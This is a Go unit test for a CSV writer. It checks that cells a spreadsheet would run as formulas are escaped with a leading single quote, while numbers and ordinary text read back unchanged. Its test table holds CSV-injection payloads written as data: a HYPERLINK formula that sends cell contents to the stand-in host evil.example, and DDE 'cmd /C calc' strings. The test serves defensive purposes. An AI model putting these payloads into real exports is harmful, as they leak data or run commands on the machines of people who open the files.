package queries

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

// A cell that a spreadsheet would run as a formula (OWASP's prefixes) is written quoted,
// after a single quote; every other cell reads back as it was, and numbers stay
// numbers.
func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
	for _, c := range []struct {
		field string
		line  string // how the field is written
		read  string // what a CSV reader reads back
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"=1+1", `"'=1+1"`, "'=1+1"},
		{"+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`, "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`, "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`, "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "\"'\t=1+1\"", "'\t=1+1"},
		{"\r=1+1", "\"'\r=1+1\"", "'\r=1+1"},
		{"  =1+1", `"'  =1+1"`, "'  =1+1"},
		{"-", `"'-"`, "'-"},
		// Numbers, as amounts are written, are left alone.
		{"-12.50", "-12.50", "-12.50"},
		{"+3", "+3", "+3"},
		{"120.5", "120.5", "120.5"},
		// Other text is written as RFC 4180 says, and reads back unchanged.
		{"Rent", "Rent", "Rent"},
		{"a=b", "a=b", "a=b"},
		{`Café, "the good one"`, `"Café, ""the good one"""`, `Café, "the good one"`},
		{" leading space", `" leading space"`, " leading space"},
		{"two\nlines", "\"two\nlines\"", "two\nlines"},
		{"", "", ""},
	} {
		var out bytes.Buffer
		writeCSVRecord(&out, []string{"x", c.field, "y"})
		if want := "x," + c.line + ",y\r\n"; out.String() != want {
			t.Errorf("%q is written %q, want %q", c.field, out.String(), want)
			continue
		}
		r := csv.NewReader(&out)
		r.LazyQuotes = false
		records, err := r.ReadAll()
		if err != nil {
			t.Errorf("%q: %v", c.field, err)
			continue
		}
		if want := []string{"x", c.read, "y"}; len(records) != 1 || !slices.Equal(records[0], want) {
			t.Errorf("%q reads back as %q, want %q", c.field, records, want)
		}
	}
}
